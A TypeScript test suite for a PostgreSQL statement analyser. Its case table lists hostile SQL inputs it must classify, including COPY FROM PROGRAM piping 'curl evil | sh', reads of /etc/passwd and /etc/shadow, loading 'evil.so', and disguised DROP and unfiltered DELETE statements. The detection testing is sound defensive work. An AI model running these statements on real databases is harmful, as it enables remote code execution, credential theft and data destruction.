// Hostile inputs and the facts the analysis must find in them (reference/postgres-protocol.md §14.2).
// Every row is a way to hide an effect from a policy that reads spelling instead of the AST.
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { CopyEndpoint, QualifiedName, StatementFacts, StatementKind } from '../types.ts';
import { analyseSql, loadSqlParser } from './parser.ts';

interface Expected {
  readonly sql: string;
  readonly kinds: readonly StatementKind[];
  readonly relations?: readonly string[];
  readonly functions?: readonly string[];
  readonly unfiltered?: boolean;
  readonly opaque?: boolean;
  readonly copy?: readonly CopyEndpoint[];
}

const qualified = (n: QualifiedName): string => (n.schema === null ? n.name : `${n.schema}.${n.name}`);

function only(sql: string): StatementFacts {
  const analysis = analyseSql(sql);
  assert.ok(analysis.ok, `parse failed: ${analysis.ok ? '' : analysis.error}`);
  assert.equal(analysis.statements.length, 1, 'exactly one statement');
  const facts = analysis.statements[0];
  assert.ok(facts);
  return facts;
}

const CASES: readonly Expected[] = [
  // 1. Lexical disguise: comments, case, quoting, whitespace, Unicode escapes.
  { sql: 'DROP/**/TABLE x', kinds: ['drop'], relations: ['x'] },
  { sql: 'dRoP TaBlE "Customers"', kinds: ['drop'], relations: ['Customers'] },
  { sql: '-- harmless\n\n  DROP\nTABLE\tinvoices', kinds: ['drop'], relations: ['invoices'] },
  { sql: 'DROP TABLE "public"."Invoices", public.invoices CASCADE', kinds: ['drop'], relations: ['public.Invoices', 'public.invoices'] },
  { sql: 'SELECT * FROM U&"d\\0061ta"', kinds: ['select'], relations: ['data'] },
  { sql: 'SELECT * FROM "public"."Invoices"', kinds: ['select'], relations: ['public.Invoices'] },
  { sql: 'SELECT * FROM PUBLIC.INVOICES', kinds: ['select'], relations: ['public.invoices'] },
  { sql: 'SELECT * FROM mydb.public.invoices', kinds: ['select'], relations: ['public.invoices'] },
  { sql: 'DROP INDEX s.i', kinds: ['drop'], relations: ['s.i'] },
  { sql: 'DROP VIEW v', kinds: ['drop'], relations: ['v'] },
  { sql: 'DROP FUNCTION f(int)', kinds: ['drop'], relations: [] },
  { sql: 'DROP SCHEMA s CASCADE', kinds: ['drop'], relations: [] },

  // 2. Effects nested under a harmless top-level statement.
  { sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', kinds: ['delete', 'select'], relations: ['t'], unfiltered: true },
  { sql: 'WITH a AS (WITH b AS (UPDATE t SET x = 1 WHERE id = 2 RETURNING *) SELECT * FROM b) SELECT * FROM a', kinds: ['select', 'update'], relations: ['t'], unfiltered: false },
  { sql: 'SELECT * FROM (WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x) s', kinds: ['insert', 'select'], relations: ['t'] },
  { sql: 'EXPLAIN ANALYZE DELETE FROM t', kinds: ['delete', 'explain'], relations: ['t'], unfiltered: true },
  { sql: 'EXPLAIN (ANALYZE) DELETE FROM t', kinds: ['delete', 'explain'], relations: ['t'], unfiltered: true },
  { sql: 'EXPLAIN (ANALYSE true, BUFFERS) UPDATE t SET a = 1', kinds: ['explain', 'update'], relations: ['t'], unfiltered: true },
  { sql: 'EXPLAIN (ANALYZE off) DELETE FROM t', kinds: ['explain'], relations: ['t'], unfiltered: false },
  { sql: 'EXPLAIN (ANALYZE 0) DELETE FROM t', kinds: ['explain'], relations: ['t'], unfiltered: false },
  // Plain EXPLAIN plans but does not run: only `explain`; what it names is still reported.
  { sql: 'EXPLAIN DELETE FROM t', kinds: ['explain'], relations: ['t'], unfiltered: false },
  { sql: 'EXPLAIN SELECT pg_read_file(\'/etc/passwd\') FROM s.t', kinds: ['explain'], relations: ['s.t'], functions: ['pg_read_file'] },
  { sql: 'EXPLAIN ANALYZE WITH d AS (DELETE FROM t WHERE id = 1 RETURNING 1) SELECT 1', kinds: ['delete', 'explain', 'select'], relations: ['t'], unfiltered: false },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', kinds: ['delete', 'merge'], relations: ['s', 't'], unfiltered: false },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1 WHEN NOT MATCHED THEN INSERT VALUES (1)', kinds: ['insert', 'merge', 'update'], relations: ['s', 't'], unfiltered: false },
  { sql: 'MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', kinds: ['delete', 'merge'], relations: ['s', 't'], unfiltered: true },
  { sql: 'MERGE INTO t USING s ON 1 = 1 WHEN MATCHED AND t.id = 5 THEN DELETE', kinds: ['delete', 'merge'], unfiltered: false },
  { sql: 'MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)', kinds: ['insert', 'merge'], unfiltered: false },
  // NOT MATCHED BY SOURCE deletes every target row the source lacks, whatever the ON says.
  { sql: 'MERGE INTO t USING (SELECT 1 AS id) s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE', kinds: ['delete', 'merge', 'select'], relations: ['t'], unfiltered: true },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE AND t.stale THEN DELETE', kinds: ['delete', 'merge'], unfiltered: false },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING', kinds: ['merge'], unfiltered: false },
  { sql: 'CREATE TABLE x AS SELECT * FROM customers', kinds: ['create', 'select'], relations: ['customers', 'x'] },
  { sql: 'CREATE MATERIALIZED VIEW mv AS SELECT * FROM customers', kinds: ['create', 'select'], relations: ['customers', 'mv'] },
  { sql: 'SELECT * INTO x FROM t', kinds: ['create', 'select'], relations: ['t', 'x'] },
  { sql: 'SELECT * INTO TEMP x FROM t', kinds: ['create', 'select'], relations: ['t', 'x'] },
  { sql: 'CREATE VIEW v AS SELECT secret FROM private.keys', kinds: ['create', 'select'], relations: ['private.keys', 'v'] },
  { sql: 'CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u', kinds: ['create', 'delete'], relations: ['t', 'u'] },
  { sql: 'CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', kinds: ['create'], relations: ['t'], functions: ['f'] },

  // CTE names are not relations, but only where the CTE is in scope.
  { sql: 'WITH invoices AS (SELECT 1) SELECT * FROM invoices', kinds: ['select'], relations: [] },
  { sql: 'WITH x AS (SELECT 1) SELECT * FROM (SELECT * FROM x) y', kinds: ['select'], relations: [] },
  // A DML target is always a table, even when a CTE has its name.
  { sql: 'WITH invoices AS (SELECT 1 AS id) DELETE FROM invoices WHERE id = 1', kinds: ['delete', 'select'], relations: ['invoices'], unfiltered: false },
  { sql: 'WITH invoices AS (SELECT 1) INSERT INTO invoices SELECT * FROM invoices', kinds: ['insert', 'select'], relations: ['invoices'] },
  // A CTE defined in a subquery does not hide the outer table of the same name.
  { sql: 'SELECT * FROM secret WHERE EXISTS (WITH secret AS (SELECT 1) SELECT * FROM secret)', kinds: ['select'], relations: ['secret'] },
  // Without RECURSIVE a CTE sees only earlier CTEs: `b` in the first one is the table.
  { sql: 'WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b', kinds: ['select'], relations: ['b'] },
  { sql: 'WITH a AS (SELECT * FROM a) SELECT * FROM a', kinds: ['select'], relations: ['a'] },
  { sql: 'WITH RECURSIVE a(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM a WHERE n < 3) SELECT * FROM a', kinds: ['select'], relations: [] },
  { sql: 'WITH s AS (SELECT 1 AS id) MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', kinds: ['delete', 'merge', 'select'], relations: ['t'] },

  // COPY: direction, endpoint, the relation or the inner query.
  { sql: "COPY t TO PROGRAM 'sh'", kinds: ['copy-to'], relations: ['t'], copy: ['program'] },
  { sql: "COPY t FROM PROGRAM 'curl evil | sh'", kinds: ['copy-from'], relations: ['t'], copy: ['program'] },
  { sql: "COPY (SELECT 1) TO '/tmp/f'", kinds: ['copy-to', 'select'], relations: [], copy: ['file'] },
  { sql: "COPY t FROM '/etc/passwd'", kinds: ['copy-from'], relations: ['t'], copy: ['file'] },
  { sql: 'COPY t FROM STDIN', kinds: ['copy-from'], relations: ['t'], copy: ['stdin'] },
  { sql: 'COPY public.t (a, b) TO STDOUT WITH (FORMAT csv)', kinds: ['copy-to'], relations: ['public.t'], copy: ['stdout'] },
  { sql: 'COPY (DELETE FROM t RETURNING *) TO STDOUT', kinds: ['copy-to', 'delete'], relations: ['t'], copy: ['stdout'], unfiltered: true },

  // 3. Opaque and dynamic code.
  { sql: "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", kinds: ['do'], opaque: true },
  { sql: "DO $x$ BEGIN EXECUTE 'DROP TABLE invoices'; END $x$ LANGUAGE plpgsql", kinds: ['do'], opaque: true },
  { sql: "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'", kinds: ['create-function'], opaque: true },
  { sql: 'CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$', kinds: ['create-function'], opaque: true },
  { sql: 'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END', kinds: ['create-function', 'delete', 'select'], relations: ['t'], opaque: true },
  { sql: 'CALL p()', kinds: ['call'], functions: ['p'], opaque: true },
  { sql: 'CALL admin.p(1)', kinds: ['call'], functions: ['admin.p'], opaque: true },
  { sql: 'EXECUTE p', kinds: ['execute'], opaque: true },
  { sql: 'EXECUTE p(1, 2)', kinds: ['execute'], opaque: true },
  { sql: 'EXPLAIN ANALYZE EXECUTE p', kinds: ['execute', 'explain'], opaque: true },
  { sql: 'CREATE TABLE x AS EXECUTE p', kinds: ['create', 'execute'], relations: ['x'], opaque: true },
  // The text of a SQL-level PREPARE is in the message: its effects are known.
  { sql: 'PREPARE p AS DELETE FROM t', kinds: ['delete', 'prepare'], relations: ['t'], unfiltered: true, opaque: false },
  { sql: 'PREPARE q(int) AS SELECT * FROM t WHERE id = $1', kinds: ['prepare', 'select'], relations: ['t'], opaque: false },
  { sql: 'DEALLOCATE ALL', kinds: ['deallocate'] },
  { sql: "SELECT query_to_xml('DELETE FROM t', true, true, '')", kinds: ['select'], functions: ['query_to_xml'], opaque: true },
  { sql: "SELECT * FROM dblink_exec('host=x', 'DROP TABLE t')", kinds: ['select'], functions: ['dblink_exec'], opaque: true },
  { sql: "LOAD 'evil.so'", kinds: ['other'], opaque: true },

  // 4. Predicate games.
  { sql: 'DELETE FROM t', kinds: ['delete'], unfiltered: true },
  { sql: 'DELETE FROM t WHERE 1=1', kinds: ['delete'], unfiltered: true },
  { sql: "DELETE FROM t WHERE 'a'='a'", kinds: ['delete'], unfiltered: true },
  { sql: 'DELETE FROM t WHERE NOT false', kinds: ['delete'], unfiltered: true },
  { sql: 'DELETE FROM t WHERE $1', kinds: ['delete'], unfiltered: true },
  { sql: 'DELETE FROM t WHERE $1 = $2', kinds: ['delete'], unfiltered: true },
  { sql: 'DELETE FROM t WHERE now() > \'2000-01-01\'', kinds: ['delete'], functions: ['now'], unfiltered: true },
  { sql: 'DELETE FROM t WHERE (SELECT count(*) FROM u) > 0', kinds: ['delete', 'select'], unfiltered: true },
  { sql: 'DELETE FROM t WHERE id = 1 OR true', kinds: ['delete'], unfiltered: true },
  { sql: 'DELETE FROM t WHERE id = 1 OR 2 > 1', kinds: ['delete'], unfiltered: true },
  { sql: 'DELETE FROM t WHERE id = $1 OR $2', kinds: ['delete'], unfiltered: true },
  { sql: 'DELETE FROM t WHERE NOT (id = 1 AND false)', kinds: ['delete'], unfiltered: true },
  { sql: 'UPDATE t SET a=1 WHERE true', kinds: ['update'], unfiltered: true },
  { sql: 'UPDATE t SET a = $1', kinds: ['update'], unfiltered: true },
  { sql: "UPDATE t SET a = 1 WHERE 'yes'::boolean", kinds: ['update'], unfiltered: true },
  { sql: 'DELETE FROM t WHERE id = $1', kinds: ['delete'], unfiltered: false },
  { sql: 'DELETE FROM t WHERE id = 1 AND true', kinds: ['delete'], unfiltered: false },
  { sql: 'DELETE FROM t WHERE false', kinds: ['delete'], unfiltered: false },
  { sql: 'DELETE FROM t WHERE 1 = 0 OR id = 3', kinds: ['delete'], unfiltered: false },
  { sql: 'DELETE FROM t x WHERE EXISTS (SELECT 1 FROM u WHERE u.id = x.uid)', kinds: ['delete', 'select'], relations: ['t', 'u'], unfiltered: false },
  { sql: 'DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = u.id)', kinds: ['delete', 'select'], unfiltered: true },
  { sql: 'DELETE FROM t USING u WHERE t.uid = u.id', kinds: ['delete'], relations: ['t', 'u'], unfiltered: false },
  { sql: 'UPDATE t SET a = 1 FROM u WHERE t.id = u.id', kinds: ['update'], relations: ['t', 'u'], unfiltered: false },
  { sql: 'UPDATE t SET a = 1 WHERE CURRENT OF c', kinds: ['update'], unfiltered: false },
  { sql: 'INSERT INTO t VALUES (1)', kinds: ['insert'], relations: ['t'], unfiltered: false },

  // 5. Indirection: functions wherever they hide.
  { sql: "SELECT pg_read_file('/etc/passwd')", kinds: ['select'], functions: ['pg_read_file'] },
  { sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", kinds: ['select'], functions: ['pg_catalog.pg_read_file'] },
  { sql: "SELECT * FROM (SELECT lo_import('/etc/shadow')) s", kinds: ['select'], functions: ['lo_import'] },
  { sql: "WITH x AS (SELECT pg_ls_dir('/')) SELECT * FROM x", kinds: ['select'], functions: ['pg_ls_dir'] },
  { sql: "SELECT * FROM ROWS FROM (pg_read_binary_file('/x'))", kinds: ['select'], functions: ['pg_read_binary_file'] },
  { sql: "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", kinds: ['create'], relations: ['t'], functions: ['pg_read_file'] },
  { sql: "INSERT INTO t (a) VALUES ((SELECT pg_read_file('/x')))", kinds: ['insert', 'select'], functions: ['pg_read_file'] },
  { sql: 'SELECT * FROM t WHERE a IN (SELECT "Evil"."F"(b) FROM u)', kinds: ['select'], relations: ['t', 'u'], functions: ['Evil.F'] },
  { sql: 'SELECT count(*) FILTER (WHERE lower(a) = $1) OVER () FROM t', kinds: ['select'], functions: ['count', 'lower'] },

  // 7. Session side doors and everything else.
  { sql: 'SET search_path = evil', kinds: ['set'] },
  { sql: 'SET ROLE admin', kinds: ['set'] },
  { sql: 'RESET ALL', kinds: ['set'] },
  { sql: 'SET standard_conforming_strings = off', kinds: ['set'], opaque: true },
  { sql: 'SET standard_conforming_strings = on', kinds: ['set'], opaque: false },
  { sql: "SET client_encoding = 'SJIS'", kinds: ['set'], opaque: true },
  { sql: "SET NAMES 'UTF8'", kinds: ['set'], opaque: false },
  { sql: "SELECT set_config('search_path', 'evil', false)", kinds: ['select'], functions: ['set_config'], opaque: true },
  { sql: "SELECT set_config('app.user_id', $1, true)", kinds: ['select'], functions: ['set_config'], opaque: false },
  { sql: 'SELECT set_config($1, $2, true)', kinds: ['select'], functions: ['set_config'], opaque: true },
  { sql: 'SHOW search_path', kinds: ['show'] },
  { sql: 'LISTEN ch', kinds: ['listen'] },
  { sql: 'UNLISTEN *', kinds: ['listen'] },
  { sql: "NOTIFY ch, 'x'", kinds: ['notify'] },
  { sql: 'DECLARE c CURSOR FOR SELECT * FROM t', kinds: ['declare', 'select'], relations: ['t'] },
  { sql: 'DECLARE c BINARY CURSOR WITH HOLD FOR SELECT * FROM t FOR UPDATE', kinds: ['declare', 'lock', 'select'], relations: ['t'] },
  { sql: 'FETCH 10 FROM c', kinds: ['fetch'] },
  { sql: 'MOVE NEXT IN c', kinds: ['fetch'] },
  { sql: 'CLOSE c', kinds: ['close'] },
  { sql: 'SELECT * FROM t FOR UPDATE', kinds: ['lock', 'select'], relations: ['t'] },
  { sql: 'SELECT * FROM t FOR KEY SHARE SKIP LOCKED', kinds: ['lock', 'select'], relations: ['t'] },
  { sql: 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', kinds: ['lock'], relations: ['t'] },
  { sql: 'TRUNCATE t, s.u', kinds: ['truncate'], relations: ['s.u', 't'] },
  { sql: 'GRANT SELECT ON t TO u', kinds: ['grant'], relations: ['t'] },
  { sql: 'REVOKE ALL ON t FROM PUBLIC', kinds: ['revoke'], relations: ['t'] },
  { sql: 'GRANT admin TO bob', kinds: ['grant'] },
  { sql: 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob', kinds: ['alter', 'grant'] },
  { sql: 'ALTER TABLE t RENAME TO u', kinds: ['alter'], relations: ['t'] },
  { sql: 'ALTER TABLE t ADD COLUMN c int', kinds: ['alter'], relations: ['t'] },
  { sql: 'ALTER ROLE bob SET search_path = evil', kinds: ['alter'] },
  { sql: "ALTER SYSTEM SET standard_conforming_strings = off", kinds: ['alter'] },
  { sql: "COMMENT ON TABLE t IS 'x'", kinds: ['alter'], relations: ['t'] },
  { sql: 'CREATE INDEX i ON t (a)', kinds: ['create'], relations: ['t'] },
  { sql: 'CREATE SCHEMA s', kinds: ['create'] },
  { sql: 'CREATE ROLE r SUPERUSER', kinds: ['create'] },
  { sql: 'CREATE EXTENSION dblink', kinds: ['create'] },
  { sql: 'DROP OWNED BY bob', kinds: ['drop'] },
  { sql: 'VACUUM FULL t', kinds: ['maintenance'], relations: ['t'] },
  { sql: 'ANALYZE t', kinds: ['maintenance'], relations: ['t'] },
  { sql: 'REINDEX TABLE t', kinds: ['maintenance'], relations: ['t'] },
  { sql: 'CLUSTER t USING i', kinds: ['maintenance'], relations: ['t'] },
  { sql: 'CHECKPOINT', kinds: ['maintenance'] },
  { sql: 'REFRESH MATERIALIZED VIEW mv', kinds: ['maintenance'], relations: ['mv'] },
  { sql: 'DISCARD ALL', kinds: ['discard'] },
  { sql: 'BEGIN', kinds: ['transaction'] },
  { sql: 'START TRANSACTION ISOLATION LEVEL SERIALIZABLE', kinds: ['transaction'] },
  { sql: 'SAVEPOINT s', kinds: ['transaction'] },
  { sql: 'ROLLBACK TO SAVEPOINT s', kinds: ['transaction'] },
  { sql: 'COMMIT', kinds: ['transaction'] },
  { sql: 'SET CONSTRAINTS ALL DEFERRED', kinds: ['set'] },
  { sql: 'VALUES (1), (2)', kinds: ['select'] },
  { sql: 'TABLE t', kinds: ['select'], relations: ['t'] },
  { sql: 'SELECT 1 UNION SELECT a FROM t', kinds: ['select'], relations: ['t'] },
  { sql: 'SECURITY LABEL ON TABLE t IS \'x\'', kinds: ['alter'], relations: ['t'] },
  { sql: 'IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public', kinds: ['create'] },
];

const sortedStrings = (values: readonly string[]): string[] => [...values].sort();

describe('analyseSql', () => {
  before(async () => {
    await loadSqlParser();
  });

  describe('statement facts', () => {
    for (const c of CASES) {
      it(`finds ${c.kinds.join('+')} in ${JSON.stringify(c.sql)}`, () => {
        const facts = only(c.sql);
        assert.deepEqual(sortedStrings(facts.kinds), sortedStrings(c.kinds), 'kinds');
        if (c.relations !== undefined) assert.deepEqual(sortedStrings(facts.relations.map(qualified)), sortedStrings(c.relations), 'relations');
        if (c.functions !== undefined) assert.deepEqual(sortedStrings(facts.functions.map(qualified)), sortedStrings(c.functions), 'functions');
        if (c.unfiltered !== undefined) assert.equal(facts.unfilteredWrite, c.unfiltered, 'unfilteredWrite');
        assert.equal(facts.opaque, c.opaque ?? false, 'opaque');
        assert.deepEqual(sortedStrings(facts.copy), sortedStrings(c.copy ?? []), 'copy');
      });
    }
  });

  describe('messages', () => {
    it('returns one fact set per statement with its location when a message holds several', () => {
      const text = 'SELECT 1; DROP TABLE t';
      const analysis = analyseSql(text);
      assert.ok(analysis.ok);
      assert.deepEqual(analysis.statements.map((s) => s.kinds), [['select'], ['drop']]);
      assert.deepEqual(analysis.statements.map((s) => text.slice(s.location.start, s.location.start + s.location.length)), ['SELECT 1', 'DROP TABLE t']);
    });

    it('gives character offsets, not byte offsets, when the text holds multi-byte characters', () => {
      const text = "SELECT 'héllo ☃ 😀'; DELETE FROM t;  ";
      const analysis = analyseSql(text);
      assert.ok(analysis.ok);
      assert.deepEqual(analysis.statements.map((s) => text.slice(s.location.start, s.location.start + s.location.length)), ["SELECT 'héllo ☃ 😀'", 'DELETE FROM t']);
    });

    it('normalizes constants away when the statement carries literals', () => {
      const analysis = analyseSql("SELECT * FROM t WHERE ssn = '123-45-6789'");
      assert.ok(analysis.ok);
      assert.ok(!analysis.normalized.includes('123-45-6789'), analysis.normalized);
      assert.match(analysis.fingerprint, /^[0-9a-f]{16}$/);
      const other = analyseSql("SELECT * FROM t WHERE ssn = '000'");
      assert.ok(other.ok);
      assert.equal(other.fingerprint, analysis.fingerprint);
    });

    it('yields no statements when the text is empty, blank or only comments', () => {
      for (const text of ['', '   ', '\n\t', '-- nothing', '/* nothing */', ';', ' ; ; ']) {
        const analysis = analyseSql(text);
        assert.ok(analysis.ok, JSON.stringify(text));
        assert.equal(analysis.statements.length, 0, JSON.stringify(text));
      }
    });

    it('reports settings in order when a statement changes search_path', () => {
      const cases: ReadonlyArray<readonly [string, readonly string[] | null]> = [
        ['SET search_path = evil, public', ['evil', 'public']],
        // Each argument is one schema, exactly as written: the server quotes it as an identifier.
        ['SET search_path TO "$user", \'A, "B"\', c', ['$user', 'A, "B"', 'c']],
        ['SET search_path = "Evil"', ['Evil']],
        ['RESET search_path', null],
        ['SET search_path TO DEFAULT', null],
      ];
      for (const [sql, value] of cases) {
        const facts = only(sql);
        assert.deepEqual(facts.settings, [{ name: 'search_path', value, local: false }], sql);
      }
      assert.deepEqual(only('SET LOCAL search_path = x').settings, [{ name: 'search_path', value: ['x'], local: true }]);
      assert.deepEqual(only('RESET ALL').settings, [{ name: 'all', value: null, local: false }]);
      assert.deepEqual(only('DISCARD ALL').settings, [{ name: 'all', value: null, local: false }]);
      assert.equal(only('SELECT 1').settings, undefined);
    });
  });

  describe('unparseable text', () => {
    const GARBAGE = ['garbage', 'SELEC * FROM t', "SELECT 'abc", 'DROP TABLE', 'SELECT * FROM t WHERE', '$$', 'SELECT 1; DROP TABLE', 'DELETE FROM t WHERE id = 1 --\u0000; DROP TABLE t'];
    for (const text of GARBAGE) {
      it(`refuses ${JSON.stringify(text)} with an error`, () => {
        const analysis = analyseSql(text);
        assert.ok(!analysis.ok, 'parsed');
        assert.ok(analysis.error.length > 0);
      });
    }
  });
});
